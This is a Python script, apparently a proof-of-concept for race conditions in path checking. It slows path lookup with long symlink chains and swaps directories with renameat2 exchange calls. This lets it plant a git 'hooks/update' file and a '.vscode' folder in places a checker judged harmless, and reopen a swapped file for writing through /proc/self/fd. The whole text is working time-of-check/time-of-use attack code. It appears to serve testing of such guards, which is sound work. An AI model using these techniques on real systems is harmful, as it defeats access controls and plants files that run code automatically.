"""Directories change places while a path is looked up. Every line that says `won` is a name that was judged by an old path."""
import ctypes, os, threading, time

libc = ctypes.CDLL(None, use_errno=True)
EXCHANGE = 2

# A path that takes long: links to links, each with hundreds of steps.
os.makedirs("d"); steps = "/".join(["d/.."] * 800); slow = ""
for number in range(24):
    os.symlink(f"{steps}/{slow}", f"s{number}"); slow = f"s{number}"
with open("payload", "w") as file: file.write("#!/bin/sh\n")
start = time.time(); os.link(slow + "/payload", "probe"); took = time.time() - start
def beside(call, wait, then):
    thread = threading.Thread(target=call); thread.start(); time.sleep(wait); then(); thread.join()
def exchange(one, other):
    libc.renameat2(-100, one, -100, other, EXCHANGE)

# The target is found first, and what it lies in becomes something harmless before it is judged.
os.makedirs("other/bare/hooks")
for part in range(1, 8):
    beside(lambda: libc.linkat(-100, f"{slow}/payload".encode(), -100, b"holder/bare/hooks/update", 0), took * part / 8,
           lambda: exchange(b"holder", b"other"))
    exchange(b"holder", b"other")
    for top in ["holder", "other"]:
        names = os.listdir(top + "/bare/hooks")
        if "HEAD" in os.listdir(top + "/bare") and "update" in names: print("won link", part, flush=True)
        elif "update" in names: os.remove(top + "/bare/hooks/update")
    if "HEAD" not in os.listdir("holder/bare"): exchange(b"holder", b"other")

# The source is found first, and gets where more is allowed before it is judged.
for part in range(1, 8):
    os.makedirs(f"p{part}/y")
    def planted():
        try:
            os.makedirs(f"in{part}"); os.rename(f"p{part}", f"in{part}/vendor"); os.mkdir(f"in{part}/vendor/y/.vscode")
        except OSError: pass
    beside(lambda: libc.rename(f"p{part}/y".encode(), f"{slow}/z{part}".encode()), took * part / 8, planted)
    if os.path.exists(f"z{part}/.vscode"): print("won rename", part, flush=True)

# The name of something that is open is another one a moment later.
held = os.open("holder/bare/config", os.O_RDONLY); own = os.fstat(held).st_ino
with open("other/bare/config", "w"): pass
going = [True]
def spin():
    while going[0]: exchange(b"holder", b"other")
spinning = threading.Thread(target=spin); spinning.start()
end = time.time() + 3
while time.time() < end:
    got = libc.open(f"/proc/self/fd/{held}".encode(), os.O_WRONLY | os.O_APPEND)
    if got < 0: continue
    if os.fstat(got).st_ino == own: print("won object", flush=True); break
    os.close(got)
going[0] = False; spinning.join()
print("end", flush=True)
